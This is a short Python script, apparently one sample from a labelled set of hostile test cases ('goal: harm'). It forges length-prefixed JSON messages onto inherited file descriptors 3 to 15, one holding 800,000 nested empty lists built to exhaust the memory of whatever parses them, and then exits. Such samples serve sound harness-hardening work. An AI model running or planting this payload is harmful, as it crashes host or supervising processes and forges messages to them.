# family: forge; goal: harm
# A few million empty lists, which are larger where they are read than where they were written.
import os


def send(*bodies):
    data = b"".join(len(body).to_bytes(4, "big") + body for body in bodies)
    for fd in range(3, 16):
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    os._exit(0)


send(b'{"v":null}', b'{"v":{"l":[' + b",".join([b'{"l":[]}'] * 800_000) + b"]}}")
